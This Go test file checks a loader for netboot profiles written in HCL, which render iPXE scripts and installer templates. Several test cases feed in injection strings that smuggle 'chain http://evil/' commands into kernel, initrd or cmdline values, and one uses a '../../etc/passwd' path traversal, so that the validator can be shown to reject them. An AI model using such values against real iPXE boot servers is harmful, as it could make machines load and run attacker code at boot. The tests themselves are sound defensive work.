package profile

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// writeFiles puts name -> content into a fresh directory.
func writeFiles(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const good = `# two profiles in one file
profile "void-nomad" {
  description = "Void + Nomad client"
  kernel      = "void/vmlinuz"
  initrd      = ["void/initrd"]
  cmdline     = "root=/dev/null auto autourl={{.ConfigURL}}"
  local_boot  = "sanboot"
}

profile "quick" {
  kernel          = "void/vmlinuz"
  install_timeout = "45m"
}
`

func TestLoadGood(t *testing.T) {
	dir := writeFiles(t, map[string]string{
		"void.hcl":   good,
		"other.hcl":  `profile "other" { kernel = "k" }`,
		"README.md":  "not a profile {",
		"notes.hcl~": "neither {",
	})
	ps, err := LoadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(Names(ps), " "); got != "other quick void-nomad" {
		t.Fatalf("Names = %q", got)
	}
	vn := ps["void-nomad"]
	if vn.Name != "void-nomad" || vn.Kernel != "void/vmlinuz" || len(vn.Initrd) != 1 || vn.Initrd[0] != "void/initrd" ||
		vn.Description != "Void + Nomad client" || vn.LocalBoot != "sanboot" {
		t.Fatalf("void-nomad = %+v", vn)
	}
	if vn.Timeout != DefaultInstallTimeout || DefaultInstallTimeout != time.Hour {
		t.Fatalf("default timeout = %v, want 1h", vn.Timeout)
	}
	if want := filepath.Join(dir, "void.hcl") + ":2"; vn.File != want {
		t.Fatalf("File = %q, want %q", vn.File, want)
	}
	q := ps["quick"]
	if q.Timeout != 45*time.Minute {
		t.Fatalf("quick timeout = %v, want 45m", q.Timeout)
	}
	if want := filepath.Join(dir, "void.hcl") + ":10"; q.File != want {
		t.Fatalf("File = %q, want %q", q.File, want)
	}
	// An empty cmdline renders empty.
	if s, err := q.RenderCmdline(Data{MAC: "x"}); err != nil || s != "" {
		t.Fatalf("empty cmdline renders %q, %v", s, err)
	}
}

func TestLoadEmptyDir(t *testing.T) {
	ps, err := LoadDir(t.TempDir())
	if err != nil || len(ps) != 0 {
		t.Fatalf("empty dir: %v, %v", ps, err)
	}
}

func TestLoadErrors(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		line      int      // the line the error must point at
		want      []string // more substrings of the error
	}{
		{
			name: "HCL syntax error",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"x\n}\n",
			line: 3,
		},
		{
			name: "unclosed block",
			src:  "profile \"a\" {\n  kernel = \"k\"\n",
			line: 1,
		},
		{
			name: "unknown attribute",
			src:  "profile \"a\" {\n  kernel = \"k\"\n\n  kernal_args = \"x\"\n}\n",
			line: 4,
			want: []string{"kernal_args"},
		},
		{
			name: "missing kernel",
			src:  "profile \"a\" {\n  cmdline = \"x\"\n}\n",
			line: 1,
			want: []string{"kernel"},
		},
		{
			name: "unknown block",
			src:  "profile \"a\" {\n  kernel = \"k\"\n}\n\nprofiles \"b\" {\n}\n",
			line: 5,
			want: []string{"profiles"},
		},
		{
			name: "wrong type",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  initrd = \"one\"\n}\n",
			line: 3,
		},
		{
			name: "bad install_timeout",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  install_timeout = \"soon\"\n}\n",
			line: 3,
			want: []string{"install_timeout", `"soon"`},
		},
		{
			name: "install_timeout without unit",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  install_timeout = \"45\"\n}\n",
			line: 3,
			want: []string{"install_timeout"},
		},
		{
			name: "negative install_timeout",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  install_timeout = \"-5m\"\n}\n",
			line: 3,
			want: []string{"install_timeout"},
		},
		{
			name: "bad local_boot",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  # comment\n  local_boot = \"grub\"\n}\n",
			line: 4,
			want: []string{"local_boot", `"grub"`},
		},
		{
			name: "cmdline template syntax",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"auto autourl={{.MAC\"\n}\n",
			line: 3,
			want: []string{"cmdline"},
		},
		{
			name: "cmdline names a field that does not exist",
			src:  "profile \"a\" {\n  kernel = \"k\"\n\n  cmdline = \"auto x={{.Nope}}\"\n}\n",
			line: 4,
			want: []string{"cmdline", "Nope"},
		},
		{
			name: "second profile in the file is checked too",
			src:  "profile \"a\" {\n  kernel = \"k\"\n}\nprofile \"b\" {\n  kernel = \"k\"\n  local_boot = \"pxe\"\n}\n",
			line: 6,
			want: []string{"local_boot"},
		},
		// Everything below goes into the iPXE script, which has no quoting:
		// a line break, a word break or an iPXE operator in a value would
		// add commands to it.
		{
			name: "kernel with a newline",
			src:  "profile \"a\" {\n  kernel = \"void/vmlinuz\\nchain http://evil/x\"\n}\n",
			line: 2,
			want: []string{"kernel", `\n`},
		},
		{
			name: "kernel with a carriage return",
			src:  "profile \"a\" {\n  kernel = \"void/vmlinuz\\r\"\n}\n",
			line: 2,
			want: []string{"kernel"},
		},
		{
			name: "kernel ending in a backslash",
			src:  "profile \"a\" {\n  kernel = \"void/vmlinuz\\\\\"\n}\n",
			line: 2,
			want: []string{"kernel"},
		},
		{
			name: "kernel outside the netboot directory",
			src:  "profile \"a\" {\n  kernel = \"void/../../etc/passwd\"\n}\n",
			line: 2,
			want: []string{"kernel", "inside the netboot directory"},
		},
		{
			name: "initrd with a control character",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  initrd = [\"void/initrd\", \"void/x\\u0007\"]\n}\n",
			line: 3,
			want: []string{"initrd"},
		},
		{
			name: "initrd with a space and an iPXE operator",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  initrd = [\"void/initrd && chain http://evil/\"]\n}\n",
			line: 3,
			want: []string{"initrd"},
		},
		{
			name: "profile name with a newline",
			src:  "\nprofile \"a\\nb\" {\n  kernel = \"k\"\n}\n",
			line: 2,
			want: []string{"profile name"},
		},
		{
			name: "cmdline with a control character",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet \\u0001\"\n}\n",
			line: 3,
			want: []string{"cmdline", "control character"},
		},
		{
			name: "cmdline that starts another iPXE command",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet || chain http://evil/\"\n}\n",
			line: 3,
			want: []string{"cmdline", "another iPXE command"},
		},
		{
			name: "cmdline with an iPXE comment",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet #rest\"\n}\n",
			line: 3,
			want: []string{"cmdline", "comment"},
		},
		{
			name: "cmdline ending in a backslash",
			src:  "profile \"a\" {\n  kernel = \"k\"\n  cmdline = \"quiet x\\\\\"\n}\n",
			line: 3,
			want: []string{"cmdline", "backslash"},
		},
		{
			name: "same name twice in one file",
			src:  "profile \"a\" {\n  kernel = \"k\"\n}\nprofile \"a\" {\n  kernel = \"k\"\n}\n",
			line: 4,
			want: []string{`"a"`, ":1"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := writeFiles(t, map[string]string{"bad.hcl": tc.src, "fine.hcl": `profile "fine" { kernel = "k" }`})
			ps, err := LoadDir(dir)
			if err == nil {
				t.Fatalf("loaded %v, want an error", Names(ps))
			}
			msg := err.Error()
			t.Log(msg)
			at := filepath.Join(dir, "bad.hcl") + ":" + strconv.Itoa(tc.line)
			if !strings.Contains(msg, at+":") && !strings.Contains(msg, at+",") && !strings.HasSuffix(msg, at) {
				t.Errorf("error does not point at %s:\n%s", at, msg)
			}
			for _, s := range tc.want {
				if !strings.Contains(msg, s) {
					t.Errorf("error does not mention %q:\n%s", s, msg)
				}
			}
			// A broken file does not take the others down with it.
			if ps["fine"] == nil {
				t.Errorf("the good file was not loaded beside the bad one")
			}
		})
	}
}

func TestDuplicateAcrossFiles(t *testing.T) {
	dir := writeFiles(t, map[string]string{
		"a.hcl": "profile \"void\" {\n  kernel = \"a\"\n}\n",
		"b.hcl": "\n\nprofile \"void\" {\n  kernel = \"b\"\n}\n",
	})
	ps, err := LoadDir(dir)
	if err == nil {
		t.Fatal("the same profile in two files was accepted")
	}
	for _, want := range []string{`"void"`, filepath.Join(dir, "a.hcl") + ":1", filepath.Join(dir, "b.hcl") + ":3"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error does not name %s:\n%v", want, err)
		}
	}
	// The first definition (files load in name order) is the one kept.
	if ps["void"] == nil || ps["void"].Kernel != "a" {
		t.Fatalf("kept %+v", ps["void"])
	}
}

func TestRenderCmdline(t *testing.T) {
	d := Data{
		MAC: "52:54:00:aa:bb:cc", Hostname: "n7", IP: "10.77.0.7", Server: "http://10.77.0.1:8080",
		StatusURL: "http://10.77.0.1:8080/install/TOK/status", ConfigURL: "http://10.77.0.1:8080/install/TOK/config",
	}
	for _, tc := range []struct {
		name, tmpl, want string
	}{
		{"plain", "quiet", "quiet"},
		{"every field", "{{.MAC}} {{.Hostname}} {{.IP}} {{.Server}} {{.StatusURL}} {{.ConfigURL}}",
			"52:54:00:aa:bb:cc n7 10.77.0.7 http://10.77.0.1:8080 http://10.77.0.1:8080/install/TOK/status http://10.77.0.1:8080/install/TOK/config"},
		{"whitespace collapsed", "  root=/dev/null \t auto\n\n   autourl={{.ConfigURL}}  \n console=ttyS0,115200  ",
			"root=/dev/null auto autourl=http://10.77.0.1:8080/install/TOK/config console=ttyS0,115200"},
		{"template logic", `{{if .Hostname}}hostname={{.Hostname}}{{end}} {{printf "%q" .IP}}`, `hostname=n7 "10.77.0.7"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src := "profile \"p\" {\n  kernel = \"k\"\n  cmdline = <<-EOT\n" + tc.tmpl + "\nEOT\n}\n"
			ps, err := LoadDir(writeFiles(t, map[string]string{"p.hcl": src}))
			if err != nil {
				t.Fatal(err)
			}
			got, err := ps["p"].RenderCmdline(d)
			if err != nil || got != tc.want {
				t.Fatalf("RenderCmdline = %q, %v\nwant %q", got, err, tc.want)
			}
		})
	}
}

func TestTemplates(t *testing.T) {
	dir := writeFiles(t, map[string]string{
		"p.hcl": `profile "p" {
  kernel    = "vmlinuz"
  templates = { "autoinstall.cfg" = "auto.tmpl" }
  nomad {
    datacenter = "lab"
    node_class = "ci"
    meta       = { concourse_worker = "true" }
  }
}
`,
		"auto.tmpl": "hostname={{.Hostname}}\ndc={{.Nomad.Datacenter}} class={{.Nomad.NodeClass}} worker={{index .Nomad.Meta \"concourse_worker\"}}\nrack={{index .Labels \"rack\"}}\nstatus={{.StatusURL}}\n",
	})
	ps, err := LoadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	p := ps["p"]
	d := p.sample()
	d.Hostname, d.Labels = "n7", map[string]string{"rack": "r2"}
	out, err := p.Render("autoinstall.cfg", d)
	want := "hostname=n7\ndc=lab class=ci worker=true\nrack=r2\nstatus=http://10.0.0.254:8080/install/TOKEN/status\n"
	if err != nil || string(out) != want {
		t.Errorf("rendered %q, %v; want %q", out, err, want)
	}
	if _, err := p.Render("nope", d); !errors.Is(err, ErrNoTemplate) {
		t.Errorf("unknown template: %v", err)
	}
}

func TestTemplateErrors(t *testing.T) {
	for _, c := range []struct{ name, tmpl, want string }{
		{"syntax", "a\nb {{.Hostname\n", "unclosed action started at"},
		{"missing field", "a\nb\n{{.Nope}}\n", "auto.tmpl:3:"},
		{"missing file", "", "no such file"},
	} {
		t.Run(c.name, func(t *testing.T) {
			files := map[string]string{"p.hcl": "profile \"p\" {\n  kernel = \"k\"\n  templates = { \"a.cfg\" = \"auto.tmpl\" }\n}\n"}
			if c.tmpl != "" {
				files["auto.tmpl"] = c.tmpl
			}
			_, err := LoadDir(writeFiles(t, files))
			if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "p.hcl:3:") {
				t.Errorf("error %v, want it to name p.hcl:3 and %q", err, c.want)
			}
		})
	}
}
